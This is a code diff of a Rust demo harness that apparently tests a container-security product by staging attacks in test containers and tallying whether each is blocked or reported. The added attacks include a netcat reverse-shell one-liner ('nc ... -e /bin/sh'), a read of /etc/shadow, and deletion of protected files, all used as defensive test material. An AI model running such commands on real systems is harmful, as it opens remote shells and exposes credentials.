@@ -8,7 +8,7 @@ use std::time::{Duration, Instant};
 
 use anyhow::{Context as _, Result};
 use clap::Parser;
-use nv_scene::{Scene, TOOL};
+use nv_scene::{CLIENT_GROUP, SECRET, Scene, TOOL};
 use serde_json::Value;
 
 /// Three containers, learned, protected, attacked.
@@ -22,10 +22,34 @@ struct Line {
     keep: bool,
 }
 
+/// How an attack ended.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum End {
+    /// It did not happen.
+    Stopped,
+    /// It happened and was told, as this kernel has nothing that could stop it or nothing is against it.
+    Told,
+    /// It happened although it should have been stopped.
+    Succeeded,
+}
+
+impl End {
+    const fn of(stopped: bool) -> Self {
+        if stopped { Self::Stopped } else { Self::Succeeded }
+    }
+    const fn word(self) -> &'static str {
+        match self {
+            Self::Stopped => "yes",
+            Self::Told => "told",
+            Self::Succeeded => "NO",
+        }
+    }
+}
+
 /// What became of an attack.
 struct Outcome {
     attack: &'static str,
-    blocked: bool,
+    end: End,
     mechanism: String,
     micros: Option<f64>,
     /// From the deed to the record in the REST API.
@@ -70,13 +94,18 @@ async fn demo(line: &Line) -> Result<bool> {
     let ended = scene.stop().await;
     let outcomes = outcomes?;
     ended?;
-    Ok(outcomes.iter().all(|outcome| outcome.blocked))
+    Ok(outcomes.iter().all(|outcome| outcome.end != End::Succeeded))
 }
 
 async fn attacks(scene: &Scene) -> Result<Vec<Outcome>> {
     say("demo: normal operation: the client asks the web server and the echo server");
     scene.operate().await?;
     scene.wait_learned().await?;
+    let rules = serde_json::json!({"config": {"add_filters": [
+        {"filter": SECRET, "behavior": "block_access"},
+        {"filter": "/srv/vault/*", "recursive": true, "behavior": "block_access"},
+    ]}});
+    scene.api.patch(&format!("/v1/file_monitor/{CLIENT_GROUP}"), &rules).await?;
     say("demo: learned; switching all three services to Protect, the client to the zero-drift baseline");
     let body = serde_json::json!({"config": {"services": ["client.shop"], "baseline_profile": "zero-drift"}});
     scene.api.patch("/v1/service/config", &body).await?;
@@ -98,6 +127,14 @@ async fn attacks(scene: &Scene) -> Result<Vec<Outcome>> {
     let memory = ["/bin/attacker", "memfd", "/tmp/proof-memory"];
     outcomes.push(program(scene, "a program in memory", &memory, "memfd:", "/tmp/proof-memory").await?);
     outcomes.push(connection(scene).await?);
+    outcomes.push(reverse_shell(scene).await?);
+    outcomes.push(read_secret(scene).await?);
+    let (from, to) = ("/srv/vault/key", "/srv/vault/moved");
+    let rename = ["/bin/attacker", "rename", from, to];
+    outcomes.push(change(scene, "a protected file renamed", &rename, from, "renamed").await?);
+    let delete = ["/bin/attacker", "delete", SECRET];
+    outcomes.push(change(scene, "a protected file deleted", &delete, SECRET, "deleted").await?);
+    outcomes.push(quarantine(scene).await?);
 
     say("");
     say(&format!(
@@ -107,7 +144,7 @@ async fn attacks(scene: &Scene) -> Result<Vec<Outcome>> {
     for outcome in &outcomes {
         let micros = outcome.micros.map_or_else(|| "-".to_owned(), |micros| format!("{micros:.1} us"));
         let seen = format!("{} ms", outcome.seen.as_millis());
-        let blocked = if outcome.blocked { "yes" } else { "NO" };
+        let blocked = outcome.end.word();
         let row = format!(
             "{:<28} {blocked:<9} {:<18} {micros:>12} {seen:>10}  {}",
             outcome.attack, outcome.mechanism, outcome.link
@@ -141,7 +178,7 @@ async fn program(
     let nanos = record.get("decision_nanos").and_then(Value::as_f64);
     Ok(Outcome {
         attack,
-        blocked: !scene.has_file(proof),
+        end: End::of(!scene.has_file(proof)),
         mechanism: text(&record, "mechanism").to_owned(),
         micros: nanos.map(|nanos| nanos / 1000.0),
         seen: begin.elapsed(),
@@ -169,11 +206,108 @@ async fn connection(scene: &Scene) -> Result<Outcome> {
     let ((record, seen), _) = record.context("no violation for the connection")?;
     Ok(Outcome {
         attack: "a connection never seen",
-        blocked: attempt?.exit_code != 0,
+        end: End::of(attempt?.exit_code != 0),
         mechanism: text(&record, "mechanism").to_owned(),
         micros: None,
         seen,
         link: format!("{}/events/{}", scene.product.console_url(), text(&record, "id")),
+    })
+}
+
+/// Waits for an incident, and makes a line of it.
+async fn incident(
+    scene: &Scene,
+    attack: &'static str,
+    begin: Instant,
+    end: End,
+    is: impl Fn(&Value) -> bool,
+) -> Result<Outcome> {
+    let found =
+        |answer: &Value| answer.get("incidents")?.as_array()?.iter().find(|record| is(record)).cloned();
+    let (record, _) = scene
+        .api
+        .wait_for("/v1/log/incident", Duration::from_secs(10), found)
+        .await
+        .with_context(|| format!("no incident for {attack}"))?;
+    let mechanism = text(&record, "mechanism");
+    Ok(Outcome {
+        attack,
+        end,
+        mechanism: if mechanism.is_empty() { "-" } else { mechanism }.to_owned(),
+        micros: record.get("decision_nanos").and_then(Value::as_f64).map(|nanos| nanos / 1000.0),
+        seen: begin.elapsed(),
+        link: format!("{}/events/{}", scene.product.console_url(), text(&record, "id")),
+    })
+}
+
+/// A shell on a connection. Its program is in the profile: that it is on a socket is told, and not a reason to stop it.
+async fn reverse_shell(scene: &Scene) -> Result<Outcome> {
+    let begin = Instant::now();
+    let attack = format!("timeout 2 nc {} 7 -e /bin/sh; true", scene.echo_address()?);
+    let command = ["/bin/sh", "-c", &attack];
+    let (ran, told) = tokio::join!(
+        scene.run(&command),
+        incident(scene, "a reverse shell", begin, End::Told, |record| text(record, "behaviour")
+            == "remote_shell")
+    );
+    ran?;
+    told
+}
+
+/// A read of a file that only some programs may read.
+async fn read_secret(scene: &Scene) -> Result<Outcome> {
+    let begin = Instant::now();
+    let read = scene.run(&["/bin/attacker", "read", SECRET]).await?.exit_code == 0;
+    incident(scene, "a read of /etc/shadow", begin, End::of(!read), |record| {
+        text(record, "action") == "deny" && about(record, SECRET)
+    })
+    .await
+}
+
+/// A change of a protected file: stopped where the kernel can refuse it, else told.
+async fn change(
+    scene: &Scene,
+    attack: &'static str,
+    command: &[&str],
+    path: &str,
+    done: &str,
+) -> Result<Outcome> {
+    let begin = Instant::now();
+    let succeeded = scene.run(command).await?.exit_code == 0;
+    let end = if succeeded { End::Told } else { End::Stopped };
+    incident(scene, attack, begin, end, |record| {
+        about(record, path) && text(record, "message").contains(done)
+    })
+    .await
+}
+
+fn about(record: &Value, path: &str) -> bool {
+    record.pointer("/file_name/0").and_then(Value::as_str) == Some(path)
+}
+
+/// A connection that is allowed, of a workload that was cut off.
+async fn quarantine(scene: &Scene) -> Result<Outcome> {
+    let id = &scene.client.container().id;
+    let begin = Instant::now();
+    let on = serde_json::json!({"config": {"quarantine": true}});
+    scene.api.patch(&format!("/v1/workload/{id}"), &on).await?;
+    let said = |answer: &Value| {
+        let list = answer.get("events")?.as_array()?;
+        list.iter().any(|record| text(record, "name") == "Container.Quarantined").then_some(())
+    };
+    scene.api.wait_for("/v1/log/activity", Duration::from_secs(10), said).await?;
+    let seen = begin.elapsed();
+    // The node has it a moment after it is said.
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let web = format!("{}:80", scene.web_address()?);
+    let talks = scene.run(&["/bin/attacker", "connect", &web]).await?.exit_code == 0;
+    Ok(Outcome {
+        attack: "anything, in quarantine",
+        end: End::of(!talks),
+        mechanism: "traffic_control".to_owned(),
+        micros: None,
+        seen,
+        link: format!("{}/containers", scene.product.console_url()),
     })
 }
 
